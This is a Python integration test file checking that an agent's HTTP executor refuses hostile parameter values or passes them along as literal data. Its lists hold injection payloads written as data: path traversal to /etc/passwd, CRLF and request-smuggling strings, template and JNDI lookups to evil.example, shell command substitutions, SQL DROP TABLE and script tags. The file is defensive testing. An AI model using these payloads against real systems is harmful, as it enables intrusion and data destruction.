"""Hostile parameters, through the real executors: each is a value, or it is refused."""

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from urllib.parse import parse_qs, unquote, urlsplit

import pytest
from support.clocks import RecordingClock
from support.steps import Rig, action

from agents.executors import http
from schemas import StepResult

pytestmark = pytest.mark.integration

TRAVERSAL = [
    "..",
    ".",
    "../../../etc/passwd",
    "..%2f..%2fadmin",
    "%2e%2e",
    "%2e%2e%2fadmin",
    "%252e%252e%252fadmin",
    "..;/admin",
    "..\\..\\admin",
    "a/../../admin",
    "/admin",
    "//evil.example/admin",
    "\\\\evil.example\\admin",
    "https://evil.example/",
    "@evil.example",
    ":80@evil.example",
    "checkout?admin=1",
    "checkout#fragment",
    "checkout;admin=1",
    "checkout&admin=1",
    "checkout%00",
    "checkout%0d%0aX-Evil:%201",
    "checkout\r\nX-Evil: 1",
    "checkout HTTP/1.1\r\nX-Evil: 1\r\n\r\nDELETE /everything",
    "．．／admin",
    "‥/admin",
    "․․/admin",
    "\u202e\u2066admin",
    "сheckout",
    "",
    " ",
    "~root",
    "a" * 4000,
]
TEMPLATES = [
    "{other}",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{p.__class__.__mro__}",
    "{0}",
    "%(other)s",
    "%s%n",
    "$other",
    "${settings.playground_url}",
    "${settings.database_url}",
    "${env:PATH}",
    "${jndi:ldap://evil.example/a}",
    "$${secret:api_key}",
    "x${secret:api_key}",
    "${secret:api_key",
    "`id`",
    "$(id)",
    "| id",
    "; id",
    '", "admin": true, "x": "',
    "'; DROP TABLE services; --",
    "<script>alert(1)</script>",
    "{{constructor.constructor('return this')()}}",
]


@asynccontextmanager
async def listening(heads: list[tuple[str, bytes]]) -> AsyncIterator[str]:
    """A server that keeps each request, as it came over the line."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        lengths = [line for line in head.lower().split(b"\r\n") if b"content-length:" in line]
        body = await reader.readexactly(int(lengths[0].split(b":")[1])) if lengths else b""
        heads.append((head.decode(), body))
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}")
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    async with server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"


async def call(address: str, value: str) -> StepResult:
    spec = action(
        executor="http",
        effect="effect",
        parameters={"p": "string", "other": "string"},
        settings={
            "method": "POST",
            "url": f"{address}/services/{{p}}/restart?name={{p}}",
            "body": {"name": "{p}", "note": "for {p}"},
        },
    )
    rig = Rig((spec,), secrets={"api_key": "key-0123456789"}, clock=RecordingClock())
    assignment = await rig.approved({"p": value, "other": "the other parameter"})
    async with rig.hosted(http.call) as handler:
        return await assignment.run(handler)


@pytest.mark.parametrize("value", [*TRAVERSAL, *TEMPLATES])
async def test_a_value_is_one_segment_one_query_value_and_one_text_or_it_is_refused(
    value: str,
) -> None:
    heads: list[tuple[str, bytes]] = []
    async with listening(heads) as address:
        result = await call(address, value)
    if result.status != "success":
        assert result.failure is not None
        assert (result.status, result.failure.code) == ("failed", "invalid_parameters")
        assert result.failure.reason
        assert heads == []
        return
    ((head, body),) = heads
    line, *headers = head.split("\r\n")
    target = line.removeprefix("POST ").removesuffix(" HTTP/1.1")
    parts = urlsplit(target)
    assert [unquote(part) for part in parts.path.split("/")] == ["", "services", value, "restart"]
    assert parse_qs(parts.query, keep_blank_values=True) == {"name": [value]}
    assert not any(header.lower().startswith("x-evil") for header in headers)
    assert json.loads(body) == {"name": value, "note": f"for {value}"}


@pytest.mark.parametrize("value", ["..", ".", "", "${secret:api_key}"])
async def test_what_would_change_the_path_or_name_a_secret_is_refused(value: str) -> None:
    heads: list[tuple[str, bytes]] = []
    async with listening(heads) as address:
        result = await call(address, value)
    assert result.failure is not None
    assert (result.status, result.failure.code) == ("failed", "invalid_parameters")
    assert heads == []
